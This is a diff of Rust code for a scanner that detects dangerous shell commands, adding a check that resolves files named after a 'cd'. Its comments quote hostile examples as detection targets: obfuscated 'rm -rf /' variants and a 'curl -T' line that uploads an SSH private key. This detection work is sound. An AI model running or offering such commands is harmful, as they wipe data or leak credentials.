@@ -22,7 +22,7 @@ use serde::Deserialize;
 use serde_json::Value;
 use std::sync::LazyLock;
 use tribunal_core::shell::{
-    base_name, output_files, redirections, saved_files, short_flag, tool_name, unquoted,
+    base_name, output_files, redirections, saved_files, short_flag, tool_name, under_cd, unquoted,
 };
 
 const KIND: &str = "dangerous_commands";
@@ -180,8 +180,10 @@ impl CommandScanner {
     /// A text is also read as the shell reads its words before running them (`r\m -rf /`,
     /// `'r''m' -rf /`, `$(echo rm) -rf /`, `$(printf '\x72\x6d') -rf /`, `$'\162\155' -rf /`,
     /// `x=rm; $x -rf /`, `rm${IFS}-rf${IFS}/` and
-    /// `{rm,-rf,/}` run `rm -rf /`; see [`as_shell_reads`]); what is found there is reported
-    /// at the same place in the text as written.
+    /// `{rm,-rf,/}` run `rm -rf /`; see [`as_shell_reads`]), and with the files named after a
+    /// `cd` under its folder (`cd ~/.ssh && curl -T id_rsa URL` sends `~/.ssh/id_rsa`; see
+    /// [`under_cd`]); what is found there is reported at the same place in the text as
+    /// written.
     pub fn scan(&self, text: &str, out: &mut Vec<Hit>) {
         let mut cands: Vec<Cand> = Vec::new();
         self.rules.for_each_match(text, |i, rule, s, e| {
@@ -195,42 +197,47 @@ impl CommandScanner {
             }
         });
         if let Some((plain, origin)) = as_shell_reads(text) {
-            self.rules.for_each_match(&plain, |i, rule, s, e| {
-                let (start, end) = super::as_written(text, &origin, s, e);
-                if rule
-                    .check
-                    .is_none_or(|c| passes_read(c, &plain[s..e], &text[start..end]))
-                {
-                    cands.push(Cand {
-                        rule: i,
-                        start,
-                        end,
-                        score: rule.score,
-                    });
-                }
-            });
-            cands.sort_by_key(|c| (c.start, c.end));
+            self.scan_reading(text, &plain, Some(&origin), &mut cands);
         }
         if let Some(plain) = json_blanked(text) {
-            self.rules.for_each_match(&plain, |i, rule, s, e| {
-                if rule
-                    .check
-                    .is_none_or(|c| passes_read(c, &plain[s..e], &text[s..e]))
-                {
-                    cands.push(Cand {
-                        rule: i,
-                        start: s,
-                        end: e,
-                        score: rule.score,
-                    });
-                }
-            });
-            cands.sort_by_key(|c| (c.start, c.end));
+            self.scan_reading(text, &plain, None, &mut cands);
+        }
+        if let Some((plain, origin)) = under_cd(text) {
+            self.scan_reading(text, &plain, Some(&origin), &mut cands);
         }
         resolve_overlaps(&mut cands, |a, b| {
             self.rules.rule(a.rule).category == self.rules.rule(b.rule).category
         });
         self.rules.emit(&cands, self.threshold, out);
+    }
+
+    /// Adds to `cands` what the rules find in another reading of `text` (`plain`), placed in
+    /// `text` by `origin` (each byte's place there; `None`: the same places).
+    fn scan_reading(
+        &self,
+        text: &str,
+        plain: &str,
+        origin: Option<&[usize]>,
+        cands: &mut Vec<Cand>,
+    ) {
+        self.rules.for_each_match(plain, |i, rule, s, e| {
+            let (start, end) = match origin {
+                Some(origin) => super::as_written(text, origin, s, e),
+                None => (s, e),
+            };
+            if rule
+                .check
+                .is_none_or(|c| passes_read(c, &plain[s..e], &text[start..end]))
+            {
+                cands.push(Cand {
+                    rule: i,
+                    start,
+                    end,
+                    score: rule.score,
+                });
+            }
+        });
+        cands.sort_by_key(|c| (c.start, c.end));
     }
 
     /// The category (`shell`, `sql`, `code`, or what an extra rule says) of a rule id.
